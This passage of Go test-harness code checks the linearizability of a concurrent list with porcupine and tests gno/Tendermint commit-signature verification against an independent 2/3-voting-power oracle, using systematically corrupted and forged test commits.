							return remAt(j) == 0 || remAt(j) > remAt(i), s
						}
					}
					return false, s
				}
				return false, s
			}
			return false, s
		},
		DescribeOperation: func(input, output any) string {
			in := input.(clIn)
			return fmt.Sprintf("%s(%d)->%d", kindNames[in.kind], in.arg, output.(int))
		},
	}
}

var model = clistModel()

func (a *analysis) porcupine() {
	c := a.h.c
	var base, steps []porcupine.Operation
	for _, o := range a.ops {
		op := porcupine.Operation{ClientId: o.G, Input: clIn{o.Kind, o.Arg}, Output: o.Out, Call: o.Call, Return: o.Ret}
		switch o.Kind {
		case kPush, kRemove, kFront, kFrontWait, kBack, kLen:
			if o.Kind == kRemove && o.Out == -1 {
				return // panicked, already reported
			}
			base = append(base, op)
		case kNext, kNextWait:
			steps = append(steps, op)
		}
	}
	hst := base
	withSteps := len(base)+len(steps) <= 90
	if withSteps {
		hst = append(hst, steps...)
	}
	if len(hst) > 160 {
		c.Count("porcupine_skipped_long", 1)
		return
	}
	res, info := porcupine.CheckOperationsVerbose(model, hst, 20*time.Second)
	switch res {
	case porcupine.Ok:
		c.Count("porcupine_ok", 1)
		if withSteps {
			c.Count("porcupine_ok_with_next_steps", 1)
		}
		c.Count("porcupine_ops", len(hst))
	case porcupine.Unknown:
		c.Count("porcupine_timeout", 1)
	case porcupine.Illegal:
		var hs []string
		sorted := append([]opRec(nil), a.ops...)
		sort.Slice(sorted, func(i, j int) bool { return sorted[i].Call < sorted[j].Call })
		for _, r := range sorted {
			switch r.Kind {
			case kPush, kRemove, kFront, kFrontWait, kBack, kLen:
				hs = append(hs, r.String())
			case kNext, kNextWait:
				if withSteps {
					hs = append(hs, r.String())
				}
			}
		}
		longest := 0
		for _, part := range info.PartialLinearizations() {
			for _, lin := range part {
				if len(lin) > longest {
					longest = len(lin)
				}
			}
		}
		c.Violation("not-linearizable", map[string]any{"params": a.h.p, "history": hs, "longest_partial_linearization": longest},
			"the recorded history (%d operations) has no linearization against the sequential list model", len(hst))
	}
}

// ------------------------------------------------------------------ run

func analyse(c *vf.Ctx, h *hist, ops []opRec) {
	a := &analysis{h: h, ops: ops, info: map[int]*elemInfo{}}
	for _, o := range ops {
		switch o.Kind {
		case kPush:
			a.info[o.Arg] = &elemInfo{pushCall: o.Call, pushRet: o.Ret, remCall: inf, remRet: inf, seq: o.Seq, pushed: true}
			a.ids = append(a.ids, o.Arg)
		}
	}
	sort.Ints(a.ids)
	nrem := 0
	for _, o := range ops {
		if o.Kind == kRemove {
			if e := a.info[o.Arg]; e != nil {
				e.remCall, e.remRet = o.Call, o.Ret
				nrem++
			}
		}
	}
	// evidence: overlap, wake-ups
	overlap := 0
	var writes []opRec
	for _, o := range ops {
		if o.Kind == kPush || o.Kind == kRemove {
			writes = append(writes, o)
		}
	}
	for _, w := range writes {
		for _, o := range ops {
			if o.G != w.G && o.Call < w.Ret && w.Call < o.Ret {
				overlap++
			}
		}
	}
	wake := 0
	for _, o := range ops {
		if (o.Kind == kFrontWait || o.Kind == kNextWait) && o.Out != 0 {
			if in := a.inf(o.Out); in.pushCall > o.Call {
				wake++
			}
		}
		if o.Kind == kNextWait && o.Out == 0 {
			if ie := a.inf(o.Arg); ie.remCall > o.Call {
				c.Count("wakeups_by_removal", 1)
			}
		}
		c.Count("op:"+kindNames[o.Kind], 1)
	}
	c.Count("wakeups_by_push", wake)
	c.Count("overlapping_write_pairs", overlap)
	c.Count("removals", nrem)

	a.checkSteps()
	final := a.finalWalk()
	a.checkOrder(final)
	a.porcupine()

	// case key: the observed sequence
	sorted := append([]opRec(nil), ops...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Call < sorted[j].Call })
	var sb strings.Builder
	fmt.Fprintf(&sb, "%v/%d/%v/%v|", h.p.Roles, h.p.Elems, h.p.SerialPush, h.p.DetachPrev)
	for _, o := range sorted {
		fmt.Fprintf(&sb, "%d:%d:%d:%d;", o.G, o.Kind, o.Arg, o.Out)
	}
	c.Case(sb.String(), nrem > 0 && overlap > 0)
	if nrem > 0 && overlap > 0 && len(sorted) <= 40 {
		var hs []string
		for _, o := range sorted {
			hs = append(hs, o.String())
		}
		c.Sample(map[string]any{"params": h.p, "history": hs})
	}
}

func run(c *vf.Ctx) {
	n := c.N(1500, 30000)
	workers := 6
	c.Parallel(n, workers, 1000, func(i int, rng *rand.Rand) {
		p := genParams(i, rng)
		if c.Violations() >= 8 {
			c.Count("histories_skipped_after_violations", 1)
			return
		}
		h, ops, ok := runHistory(c, p)
		c.Count("histories", 1)
		c.Count(fmt.Sprintf("goroutines:%02d", len(p.Roles)), 1)
		if !ok {
			c.Count("histories_aborted", 1)
			return
		}
		if p.RaceOnly {
			// no stamps: structural check only
			a := &analysis{h: h, ops: ops, info: map[int]*elemInfo{}}
			for _, o := range ops {
				if o.Kind == kPush {
					a.info[o.Arg] = &elemInfo{pushCall: 0, pushRet: 0, remCall: inf, remRet: inf, pushed: true}
					a.ids = append(a.ids, o.Arg)
				}
			}
			for _, o := range ops {
				if o.Kind == kRemove {
					if e := a.info[o.Arg]; e != nil {
						e.remCall = 0
					}
				}
			}
			sort.Ints(a.ids)
			a.finalWalk()
			c.Count("histories_race_only", 1)
			c.Eval(1)
			return
		}
		analyse(c, h, ops)
	})
	c.Assume("the Go scheduler on a multi-core box, perturbed by seeded Gosched/sleep/spin noise, is the source of interleavings (sampled, not enumerated)")
	c.Assume("porcupine v1.3.0 is the linearizability decision procedure; timeouts are counted, never reported as violations")
	c.Assume("a removed element keeps its next pointer (frozen at removal): stepping from an already removed element may legitimately return an element removed later on")
	nfull := c.Counter("histories") - c.Counter("histories_race_only") - c.Counter("histories_aborted")
	c.Require("histories_completed", nfull, int64(n/2))
	c.Require("porcupine_decided", c.Counter("porcupine_ok"), nfull*9/10)
	c.RequireCounter("wakeups_by_push", int64(n/20))
	c.RequireCounter("wakeups_by_removal", 1)
	c.RequireCounter("removals", int64(n/2))
	c.RequireCounter("overlapping_write_pairs", int64(n))
	c.RequireCounter("steps_from_live_element", int64(n))
	c.RequireCounter("steps_from_removed_element", 1)
	for _, k := range []opKind{kPush, kRemove, kFront, kFrontWait, kNext, kNextWait, kLen, kBack, kRemovedFlag} {
		c.RequireCounter("op:"+kindNames[k], 1)
	}
}
