// Package c36: commit verification accepts exactly the commits with +2/3 valid signatures.
//
// Oracle: every commit is built from a JSON-able spec, so the check knows by
// construction which key signed which bytes. Independently of the code under
// test it decides
//
//	well-formed(commit, set, block id, height)  ∧  3·Σ power(validators whose
//	precommit for that block id carries a valid signature) > 2·total power
//
// with math/big and compares with ValidatorSet.VerifyCommit. "Well-formed" is
// what block.go (Commit.ValidateBasic) and VerifyCommit document: the commit is
// for a non-nil block, has exactly one (possibly nil) entry per validator, its
// block id is the requested one, every present entry is a precommit of the
// requested height and of one common round, and every present entry carries a
// valid signature of the validator at that index ("invalid commit -- invalid
// signature": one bad signature spoils the commit even if +2/3 good ones
// remain). Precommits for another block or for nil are allowed and do not count
// ("We include stray precommits to measure validator availability"). The
// ValidatorAddress / ValidatorIndex fields of an entry are not covered by the
// signature and are not inspected by VerifyCommit, so they are not part of
// well-formedness. The construction knowledge itself is validated against
// crypto/ed25519 from the standard library for every entry.
//
// VerifyFutureCommit(old, new): accepted exactly when the commit is accepted
// for the new set and, additionally, the old-set power of the validators whose
// precommit signature for the block verifies exceeds 2/3 of the old total. The
// "exactly" is asserted for commits whose ValidatorAddress fields are honest
// (VerifyFutureCommit finds old validators by that field); for commits with a
// forged address field only "accepted ⇒ both 2/3 conditions hold" is asserted.
package c36

import (
	"bytes"
	stded "crypto/ed25519"
	"fmt"
	"math/big"
	"math/rand/v2"
	"sort"
	"time"

	"github.com/gnolang/gno/tm2/pkg/bft/types"
	"github.com/gnolang/gno/tm2/pkg/crypto/ed25519"

	"verifharness/internal/vf"
)

func init() {
	vf.Register(&vf.Check{
		ID:    "C36",
		Level: "exploration",
		Rule: "case = (validator set, commit spec, verify block id/height/chain): for every set size 1..6 x 5 power profiles (equal, ascending, one dominant, total divisible by 3, near MaxTotalVotingPower) " +
			"every subset of signing validators x every corruption kind at every position (bad/short/empty/long signature, foreign key, swapped or duplicated entries, wrong height/round/type on one or on all entries, " +
			"signed-vs-claimed field mismatch, stray block or nil precommits, wrong/nil commit block id, wrong size, forged address/index fields, wrong chain id, tampered timestamp); " +
			"VerifyFutureCommit over every (old subset, new subset, signer subset) of a 4-key (6 in thorough) universe x power-profile pairs x {clean, 2 seeded corruptions}; plus seeded random specs with two stacked corruptions. " +
			"well-formed = non-nil block, one entry per validator, requested block id, all present entries precommits of the requested height and one round, all present signatures valid for the validator at that index; " +
			"non-trivial = a corruption is present or toggling a single validator's precommit flips the 2/3 decision; distinct by the full spec",
		Run: run,
	})
}

const chainID = "verif-c36"

var baseTime = time.Unix(1710000000, 0).UTC()

func mkBlock(tag byte) types.BlockID {
	return types.BlockID{Hash: bytes.Repeat([]byte{tag}, 32), PartsHeader: types.PartSetHeader{Total: 2, Hash: bytes.Repeat([]byte{tag ^ 0x33}, 32)}}
}

var blocks = []types.BlockID{{}, mkBlock(0xA7), mkBlock(0xB8)}

var keyPool = func() []ed25519.PrivKeyEd25519 {
	ks := make([]ed25519.PrivKeyEd25519, 8)
	for i := range ks {
		ks[i] = ed25519.GenPrivKeyFromSecret([]byte(fmt.Sprintf("verif-c36-key-%d", i)))
	}
	sort.Slice(ks, func(i, j int) bool {
		a, b := ks[i].PubKey().Address(), ks[j].PubKey().Address()
		return bytes.Compare(a[:], b[:]) < 0
	})
	return ks
}()

func pub(i int) ed25519.PubKeyEd25519 { return keyPool[i].PubKey().(ed25519.PubKeyEd25519) }

// signed describes the bytes a precommit signature was produced over.
type signed struct {
	Blk   int    `json:"blk"`
	H     int64  `json:"h"`
	R     int    `json:"r"`
	T     byte   `json:"t"`
	Ts    int    `json:"ts"`
	Chain string `json:"chain"`
}

// entry is one commit slot. The claimed fields go into the CommitSig; Sig says what was actually signed and by whom.
type entry struct {
	Present bool   `json:"present"`
	Blk     int    `json:"blk"`
	H       int64  `json:"h"`
	R       int    `json:"r"`
	T       byte   `json:"t"`
	Ts      int    `json:"ts"`
	Addr    int    `json:"addr"`  // pool index of the claimed ValidatorAddress
	Index   int    `json:"index"` // claimed ValidatorIndex
	Signer  int    `json:"signer"`
	Sig     signed `json:"signed"`
	Tamper  string `json:"tamper,omitempty"` // flip | short | empty | long
}

type vset struct {
	Members []int   `json:"members"` // pool indices, ascending (== validator index order)
	Powers  []int64 `json:"powers"`
}

func (v vset) total() int64 {
	var s int64
	for _, p := range v.Powers {
		s += p
	}
	return s
}

func (v vset) build() *types.ValidatorSet {
	vals := make([]*types.Validator, len(v.Members))
	for i, m := range v.Members {
		vals[len(vals)-1-i] = types.NewValidator(pub(m), v.Powers[i])
	}
	vs := types.NewValidatorSet(vals)
	for i, m := range v.Members {
		if a, _ := vs.GetByIndex(i); a != pub(m).Address() {
			panic("c36: validator order differs from address order")
		}
	}
	return vs
}

type cspec struct {
	Kind      string  `json:"kind"`
	New       vset    `json:"set"`
	Old       *vset   `json:"old_set,omitempty"`
	CommitBlk int     `json:"commit_blk"`
	Entries   []entry `json:"entries"`
	VBlk      int     `json:"verify_blk"`
	VH        int64   `json:"verify_height"`
	VChain    string  `json:"verify_chain"`
	Forged    bool    `json:"forged_address,omitempty"`
}

func (s *cspec) key() string { return fmt.Sprintf("%+v|%+v", *s, s.Old) }

const (
	baseH = int64(12)
	baseR = 1
)

// baseSpec: validators in `signers` (bitmask over set positions) precommit block 1 at (baseH, baseR).
func baseSpec(set vset, signers uint) *cspec {
	s := &cspec{Kind: "clean", New: set, CommitBlk: 1, VBlk: 1, VH: baseH, VChain: chainID}
	for i, m := range set.Members {
		e := entry{}
		if signers&(1<<uint(i)) != 0 {
			e = goodEntry(m, i, 1, baseH, baseR)
		}
		s.Entries = append(s.Entries, e)
	}
	return s
}

func goodEntry(member, idx, blk int, h int64, r int) entry {
	t := byte(types.PrecommitType)
	return entry{Present: true, Blk: blk, H: h, R: r, T: t, Ts: 10 + member, Addr: member, Index: idx, Signer: member,
		Sig: signed{Blk: blk, H: h, R: r, T: t, Ts: 10 + member, Chain: chainID}}
}

type sigCache map[string][]byte

func (sc sigCache) sign(signer int, sg signed) []byte {
	k := fmt.Sprintf("%d|%+v", signer, sg)
	if b, ok := sc[k]; ok {
		return b
	}
	v := types.Vote{Type: types.SignedMsgType(sg.T), Height: sg.H, Round: sg.R, BlockID: blocks[sg.Blk], Timestamp: baseTime.Add(time.Duration(sg.Ts) * time.Second)}
	b, err := keyPool[signer].Sign(v.SignBytes(sg.Chain))
	if err != nil {
		panic(err)
	}
	sc[k] = b
	return b
}

// commit materialises the spec.
func (s *cspec) commit(sc sigCache) *types.Commit {
	pcs := make([]*types.CommitSig, len(s.Entries))
	for i, e := range s.Entries {
		if !e.Present {
			continue
		}
		sig := append([]byte(nil), sc.sign(e.Signer, e.Sig)...)
		switch e.Tamper {
		case "flip":
			sig[7] ^= 0x01
		case "short":
			sig = sig[:63]
		case "empty":
			sig = nil
		case "long":
			sig = append(sig, 0)
		}
		pcs[i] = &types.CommitSig{Type: types.SignedMsgType(e.T), Height: e.H, Round: e.R, BlockID: blocks[e.Blk],
			Timestamp: baseTime.Add(time.Duration(e.Ts) * time.Second), ValidatorAddress: pub(e.Addr).Address(), ValidatorIndex: e.Index, Signature: sig}
	}
	return types.NewCommit(blocks[s.CommitBlk], pcs)
}

// sigOK: by construction, does entry e carry a valid signature of pool key `member` over its own claimed fields for chain vchain?
func sigOK(e entry, member int, vchain string) bool {
	claimed := signed{Blk: e.Blk, H: e.H, R: e.R, T: e.T, Ts: e.Ts, Chain: vchain}
	return e.Signer == member && e.Tamper == "" && e.Sig == claimed
}

func over23(s, t int64) bool {
	return new(big.Int).Mul(big.NewInt(s), big.NewInt(3)).Cmp(new(big.Int).Mul(big.NewInt(t), big.NewInt(2))) > 0
}

type verdict struct {
	accept     bool
	wellFormed bool
	why        string
	power      int64 // power of valid precommits for the requested block (new set)
	oldPower   int64 // old-set power of validators whose valid precommit is for the requested block
}

// oracle decides the spec independently of the code under test.
func oracle(s *cspec, sc sigCache) verdict {
	n := len(s.New.Members)
	v := verdict{}
	switch {
	case s.CommitBlk == 0:
		v.why = "nil-block-commit"
		return v
	case len(s.Entries) == 0:
		v.why = "no-precommits"
		return v
	case len(s.Entries) != n:
		v.why = "size"
		return v
	case s.CommitBlk != s.VBlk:
		v.why = "wrong-block-id"
		return v
	}
	round, haveRound := 0, false
	for _, e := range s.Entries {
		if !e.Present {
			continue
		}
		if e.T != byte(types.PrecommitType) {
			v.why = "type"
			return v
		}
		if e.H != s.VH {
			v.why = "height"
			return v
		}
		if haveRound && e.R != round {
			v.why = "round"
			return v
		}
		round, haveRound = e.R, true
	}
	for i, e := range s.Entries {
		if !e.Present {
			continue
		}
		// the entry must sit in its validator's slot: VerifyCommit compares the (unsigned) ValidatorIndex and
		// ValidatorAddress fields with the slot since the C32 repair (state.MedianTime trusts them)
		if e.Index != i || e.Addr != s.New.Members[i] {
			v.why = "validator-slot"
			return v
		}
	}
	for i, e := range s.Entries {
		if !e.Present {
			continue
		}
		ok := sigOK(e, s.New.Members[i], s.VChain)
		// validate the construction knowledge with the standard library
		cv := types.Vote{Type: types.SignedMsgType(e.T), Height: e.H, Round: e.R, BlockID: blocks[e.Blk], Timestamp: baseTime.Add(time.Duration(e.Ts) * time.Second)}
		c := &cspec{Entries: []entry{e}}
		sig := c.commit(sc).Precommits[0].Signature
		pk := pub(s.New.Members[i])
		if std := len(sig) == 64 && stded.Verify(stded.PublicKey(pk[:]), cv.SignBytes(s.VChain), sig); std != ok {
			panic(fmt.Sprintf("c36: construction knowledge valid=%v but crypto/ed25519 says %v for entry %+v", ok, std, e))
		}
		if !ok {
			v.why = "signature"
			return v
		}
	}
	v.wellFormed = true
	oldPow := map[int]int64{}
	if s.Old != nil {
		for i, m := range s.Old.Members {
			oldPow[m] = s.Old.Powers[i]
		}
	}
	for i, e := range s.Entries {
		if e.Present && e.Blk == s.VBlk {
			v.power += s.New.Powers[i]
			v.oldPower += oldPow[s.New.Members[i]]
		}
	}
	if !over23(v.power, s.New.total()) {
		v.why = "power"
		return v
	}
	if s.Old != nil && !over23(v.oldPower, s.Old.total()) {
		v.why = "old-power"
		return v
	}
	v.accept = true
	v.why = "accept"
	return v
}

// nearThreshold: does toggling one validator's precommit flip the 2/3 decision (new set)?
func nearThreshold(s *cspec, v verdict) bool {
	if !v.wellFormed {
		return false
	}
	t := s.New.total()
	for i, e := range s.Entries {
		p := v.power
		if e.Present && e.Blk == s.VBlk {
			p -= s.New.Powers[i]
		} else {
			p += s.New.Powers[i]
		}
		if over23(p, t) != over23(v.power, t) {
			return true
		}
	}
	return false
}

type tally map[string]int

func (t tally) flush(c *vf.Ctx) {
	for k, v := range t {
		c.Count(k, v)
		delete(t, k)
	}
}

// check runs the real verification and compares with the oracle.
func check(c *vf.Ctx, tl tally, sc sigCache, s *cspec, sets map[string]*types.ValidatorSet) {
	getSet := func(v vset) *types.ValidatorSet {
		k := fmt.Sprint(v)
		if vs, ok := sets[k]; ok {
			return vs
		}
		vs := v.build()
		sets[k] = vs
		return vs
	}
	want := oracle(s, sc)
	newSet := getSet(s.New)
	commit := s.commit(sc)
	var err error
	var pv any
	api := "VerifyCommit"
	if s.Old == nil {
		pv = vf.Try(func() { err = newSet.VerifyCommit(s.VChain, blocks[s.VBlk], s.VH, commit) })
	} else {
		api = "VerifyFutureCommit"
		oldSet := getSet(*s.Old)
		pv = vf.Try(func() { err = oldSet.VerifyFutureCommit(newSet, s.VChain, blocks[s.VBlk], s.VH, commit) })
	}
	c.Case(s.key(), s.Kind != "clean" || nearThreshold(s, want))
	tl["calls_"+api]++
	tl["oracle_"+want.why]++
	tl["kind_"+s.Kind]++
	if pv != nil {
		c.Violation("panic:"+api+":"+s.Kind, s, "%s panicked: %v", api, pv)
		return
	}
	got := err == nil
	if got {
		tl["accepted_"+api]++
	} else {
		tl["rejected_"+api]++
	}
	if s.Forged && s.Old != nil {
		// address fields are forged: VerifyFutureCommit looks old validators up by that field; only the safety direction is asserted
		tl["future_forged_address"]++
		if got && !want.accept {
			c.Violation("false-accept:"+api+":"+want.why, s, "%s accepted a commit (forged address fields) that the oracle rejects: %s (power %d/%d, old power %d)", api, want.why, want.power, s.New.total(), want.oldPower)
		}
		return
	}
	if got && !want.accept {
		c.Violation("false-accept:"+api+":"+want.why, s, "%s accepted; oracle: %s (well-formed=%v, valid power for the block %d of %d, old power %d)", api, want.why, want.wellFormed, want.power, s.New.total(), want.oldPower)
	} else if !got && want.accept {
		c.Violation("false-reject:"+api+":"+s.Kind, s, "%s rejected (%v); oracle: well-formed and valid power %d of %d (old power %d) exceeds 2/3", api, err, want.power, s.New.total(), want.oldPower)
	}
}

// ---------------------------------------------------------------- corruptions

type corruption struct {
	name     string
	perEntry bool // applied at one present entry p
	apply    func(s *cspec, p int) bool
}

func others(s *cspec, p int) int { // another member's pool index (or an outsider for single-validator sets)
	if len(s.New.Members) > 1 {
		return s.New.Members[(p+1)%len(s.New.Members)]
	}
	return len(keyPool) - 1
}

var corruptions = []corruption{
	{"sig-flip", true, func(s *cspec, p int) bool { s.Entries[p].Tamper = "flip"; return true }},
	{"sig-short", true, func(s *cspec, p int) bool { s.Entries[p].Tamper = "short"; return true }},
	{"sig-empty", true, func(s *cspec, p int) bool { s.Entries[p].Tamper = "empty"; return true }},
	{"sig-long", true, func(s *cspec, p int) bool { s.Entries[p].Tamper = "long"; return true }},
	{"foreign-key", true, func(s *cspec, p int) bool { s.Entries[p].Signer = others(s, p); return true }},
	{"outsider-key", true, func(s *cspec, p int) bool { s.Entries[p].Signer = len(keyPool) - 1; return true }},
	{"swap-entries", true, func(s *cspec, p int) bool {
		q := (p + 1) % len(s.Entries)
		if q == p {
			return false
		}
		s.Entries[p], s.Entries[q] = s.Entries[q], s.Entries[p]
		return true
	}},
	{"duplicate-entry", true, func(s *cspec, p int) bool {
		q := (p + 1) % len(s.Entries)
		if q == p {
			return false
		}
		s.Entries[q] = s.Entries[p]
		return true
	}},
	{"height-one", true, func(s *cspec, p int) bool { s.Entries[p].H++; s.Entries[p].Sig.H++; return true }},
	{"height-signed-other", true, func(s *cspec, p int) bool { s.Entries[p].Sig.H++; return true }},
	{"height-claimed-other", true, func(s *cspec, p int) bool { s.Entries[p].H++; return true }}, // signed for the commit height, labelled with another
	{"round-claimed-other", true, func(s *cspec, p int) bool { s.Entries[p].R++; return true }},
	{"type-claimed-other", true, func(s *cspec, p int) bool { s.Entries[p].T = byte(types.PrevoteType); return true }},
	{"round-one", true, func(s *cspec, p int) bool { s.Entries[p].R++; s.Entries[p].Sig.R++; return true }},
	{"round-signed-other", true, func(s *cspec, p int) bool { s.Entries[p].Sig.R++; return true }},
	{"type-prevote", true, func(s *cspec, p int) bool {
		s.Entries[p].T, s.Entries[p].Sig.T = byte(types.PrevoteType), byte(types.PrevoteType)
		return true
	}},
	{"type-signed-prevote", true, func(s *cspec, p int) bool { s.Entries[p].Sig.T = byte(types.PrevoteType); return true }},
	{"type-proposal", true, func(s *cspec, p int) bool {
		s.Entries[p].T, s.Entries[p].Sig.T = byte(types.ProposalType), byte(types.ProposalType)
		return true
	}},
	{"stray-block", true, func(s *cspec, p int) bool { s.Entries[p].Blk, s.Entries[p].Sig.Blk = 2, 2; return true }},
	{"stray-nil", true, func(s *cspec, p int) bool { s.Entries[p].Blk, s.Entries[p].Sig.Blk = 0, 0; return true }},
	{"block-signed-other", true, func(s *cspec, p int) bool { s.Entries[p].Sig.Blk = 2; return true }},
	{"block-relabelled-stray", true, func(s *cspec, p int) bool { // signed the committed block, relabelled as a stray block
		s.Entries[p].Blk = 2
		return true
	}},
	{"timestamp-tampered", true, func(s *cspec, p int) bool { s.Entries[p].Ts += 5; return true }},
	{"signed-other-chain", true, func(s *cspec, p int) bool { s.Entries[p].Sig.Chain = "other-chain"; return true }},
	{"address-forged", true, func(s *cspec, p int) bool { s.Entries[p].Addr = others(s, p); s.Forged = true; return true }},
	{"address-outsider", true, func(s *cspec, p int) bool { s.Entries[p].Addr = len(keyPool) - 1; s.Forged = true; return true }},
	{"address-forged-old", true, func(s *cspec, p int) bool { // (future commits) claim the address of an old-set validator that did not sign
		if s.Old == nil {
			return false
		}
		for _, m := range s.Old.Members {
			signedIt := false
			for _, e := range s.Entries {
				signedIt = signedIt || (e.Present && e.Signer == m)
			}
			if !signedIt {
				s.Entries[p].Addr, s.Forged = m, true
				return true
			}
		}
		return false
	}},
	{"index-forged", true, func(s *cspec, p int) bool { s.Entries[p].Index += 3; return true }},
	// whole-commit corruptions
	{"height-all", false, func(s *cspec, _ int) bool {
		for i := range s.Entries {
			s.Entries[i].H++
			s.Entries[i].Sig.H++
		}
		return true
	}},
	{"height-all-verified-there", false, func(s *cspec, _ int) bool {
		for i := range s.Entries {
			s.Entries[i].H++
			s.Entries[i].Sig.H++
		}
		s.VH++
		return true
	}},
	{"verify-other-height", false, func(s *cspec, _ int) bool { s.VH--; return true }},
	{"round-all", false, func(s *cspec, _ int) bool {
		for i := range s.Entries {
			s.Entries[i].R += 2
			s.Entries[i].Sig.R += 2
		}
		return true
	}},
	{"commit-for-other-block", false, func(s *cspec, _ int) bool {
		s.CommitBlk = 2
		for i := range s.Entries {
			s.Entries[i].Blk, s.Entries[i].Sig.Blk = 2, 2
		}
		return true
	}},
	{"verify-other-block", false, func(s *cspec, _ int) bool { s.VBlk = 2; return true }},
	{"commit-block-relabelled", false, func(s *cspec, _ int) bool { s.CommitBlk = 2; return true }},
	{"commit-block-and-request-relabelled", false, func(s *cspec, _ int) bool { s.CommitBlk, s.VBlk = 2, 2; return true }},
	{"all-stray", false, func(s *cspec, _ int) bool {
		for i := range s.Entries {
			s.Entries[i].Blk, s.Entries[i].Sig.Blk = 2, 2
		}
		return true
	}},
	{"commit-nil-block", false, func(s *cspec, _ int) bool { s.CommitBlk = 0; return true }},
	{"commit-and-request-nil-block", false, func(s *cspec, _ int) bool {
		s.CommitBlk, s.VBlk = 0, 0
		for i := range s.Entries {
			s.Entries[i].Blk, s.Entries[i].Sig.Blk = 0, 0
		}
		return true
	}},
	{"extra-entry", false, func(s *cspec, _ int) bool { s.Entries = append(s.Entries, entry{}); return true }},
	{"extra-signed-entry", false, func(s *cspec, _ int) bool {
		s.Entries = append(s.Entries, goodEntry(len(keyPool)-1, len(s.Entries), 1, baseH, baseR))
		return true
	}},
	{"missing-entry", false, func(s *cspec, _ int) bool { s.Entries = s.Entries[:len(s.Entries)-1]; return true }},
	{"no-entries", false, func(s *cspec, _ int) bool { s.Entries = nil; return true }},
	{"verify-other-chain", false, func(s *cspec, _ int) bool { s.VChain = "other-chain"; return true }},
	{"other-chain-consistent", false, func(s *cspec, _ int) bool {
		for i := range s.Entries {
			s.Entries[i].Sig.Chain = "other-chain"
		}
		s.VChain = "other-chain"
		return true
	}},
}

func clone(s *cspec) *cspec {
	c := *s
	c.Entries = append([]entry(nil), s.Entries...)
	return &c
}

func profiles(n int) [][]int64 {
	eq, asc, dom, thirds, huge := make([]int64, n), make([]int64, n), make([]int64, n), make([]int64, n), make([]int64, n)
	var st int64
	for i := 0; i < n; i++ {
		eq[i], asc[i], dom[i], thirds[i] = 1, int64(i+1), 1, int64(1+i%2)
		huge[i] = types.MaxTotalVotingPower/int64(n) - int64(i)
		st += thirds[i]
	}
	dom[n/2] = int64(2 * n)
	thirds[0] += 3 - st%3 // total divisible by 3: power == 2/3 total is reachable and must be rejected
	return [][]int64{eq, asc, dom, thirds, huge}
}

func run(c *vf.Ctx) {
	// ---- VerifyCommit: every subset x every corruption at every position
	type job struct {
		set vset
	}
	var jobs []job
	for n := 1; n <= 6; n++ {
		members := make([]int, n)
		for i := range members {
			members[i] = i
		}
		for _, p := range profiles(n) {
			jobs = append(jobs, job{vset{Members: members, Powers: p}})
		}
	}
	c.Parallel(len(jobs), 16, 1, func(j int, _ *rand.Rand) {
		set := jobs[j].set
		n := len(set.Members)
		tl, sc, sets := tally{}, sigCache{}, map[string]*types.ValidatorSet{}
		defer tl.flush(c)
		for signers := uint(0); signers < 1<<uint(n); signers++ {
			base := baseSpec(set, signers)
			check(c, tl, sc, base, sets)
			for _, cr := range corruptions {
				if !cr.perEntry {
					s := clone(base)
					s.Kind = cr.name
					if cr.apply(s, 0) {
						check(c, tl, sc, s, sets)
					}
					continue
				}
				for p := 0; p < n; p++ {
					if !base.Entries[p].Present {
						continue
					}
					s := clone(base)
					s.Kind = cr.name
					if cr.apply(s, p) {
						check(c, tl, sc, s, sets)
					}
				}
			}
		}
	})
	c.SetExhaustive(true)
	c.Logf("VerifyCommit sweep done")

	// ---- VerifyFutureCommit: every (old, new, signers) over a small key universe
	u := c.N(4, 6)
	type fjob struct {
		old, nw   uint
		oldP, nwP int
	}
	var fjobs []fjob
	for o := uint(1); o < 1<<uint(u); o++ {
		for nw := uint(1); nw < 1<<uint(u); nw++ {
			for pp := 0; pp < 3; pp++ {
				fjobs = append(fjobs, fjob{o, nw, pp, (pp + 1) % 3})
			}
		}
	}
	powerOf := func(profile, member int) int64 {
		switch profile {
		case 0:
			return 1
		case 1:
			return int64(1 + member)
		default:
			return []int64{5, 1, 1, 2, 3, 1, 1, 1}[member]
		}
	}
	mk := func(mask uint, profile int) vset {
		v := vset{}
		for m := 0; m < u; m++ {
			if mask&(1<<uint(m)) != 0 {
				v.Members = append(v.Members, m)
				v.Powers = append(v.Powers, powerOf(profile, m))
			}
		}
		return v
	}
	futureKinds := []string{"address-forged-old", "address-forged-old", "round-claimed-other", "type-claimed-other", "stray-block", "stray-nil", "sig-flip", "foreign-key", "address-forged", "address-outsider", "height-all", "round-one", "type-prevote", "swap-entries", "duplicate-entry", "verify-other-block", "block-signed-other", "index-forged"}
	byName := map[string]corruption{}
	for _, cr := range corruptions {
		byName[cr.name] = cr
	}
	c.Parallel(len(fjobs), 16, 1<<20, func(j int, r *rand.Rand) {
		fj := fjobs[j]
		old, nw := mk(fj.old, fj.oldP), mk(fj.nw, fj.nwP)
		n := len(nw.Members)
		tl, sc, sets := tally{}, sigCache{}, map[string]*types.ValidatorSet{}
		defer tl.flush(c)
		for signers := uint(0); signers < 1<<uint(n); signers++ {
			base := baseSpec(nw, signers)
			base.Old = &old
			check(c, tl, sc, base, sets)
			if signers == 0 {
				continue
			}
			for k := 0; k < 2; k++ {
				cr := byName[futureKinds[r.IntN(len(futureKinds))]]
				var present []int
				for p, e := range base.Entries {
					if e.Present {
						present = append(present, p)
					}
				}
				s := clone(base)
				s.Kind = "future/" + cr.name
				if cr.apply(s, present[r.IntN(len(present))]) {
					check(c, tl, sc, s, sets)
				}
			}
		}
	})
	c.Logf("VerifyFutureCommit sweep done")

	// ---- random specs: random sets (incl. huge powers), two stacked corruptions
	c.Parallel(c.N(40000, 1500000), 16, 1<<30, func(i int, r *rand.Rand) {
		tl, sc, sets := tally{}, sigCache{}, map[string]*types.ValidatorSet{}
		defer tl.flush(c)
		n := 1 + r.IntN(6)
		perm := r.Perm(len(keyPool) - 1)[:n]
		sort.Ints(perm)
		set := vset{Members: perm}
		for k := 0; k < n; k++ {
			var p int64
			switch r.IntN(4) {
			case 0:
				p = 1 + r.Int64N(3)
			case 1:
				p = 1 + r.Int64N(100)
			case 2:
				p = types.MaxTotalVotingPower/int64(n) - r.Int64N(1000)
			default:
				p = 1
			}
			set.Powers = append(set.Powers, p)
		}
		// bias the signer subset towards the 2/3 boundary
		signers := uint(r.IntN(1 << uint(n)))
		if r.IntN(2) == 0 {
			signers |= uint(r.IntN(1 << uint(n)))
		}
		s := baseSpec(set, signers)
		s.Kind = "random"
		if r.IntN(3) == 0 {
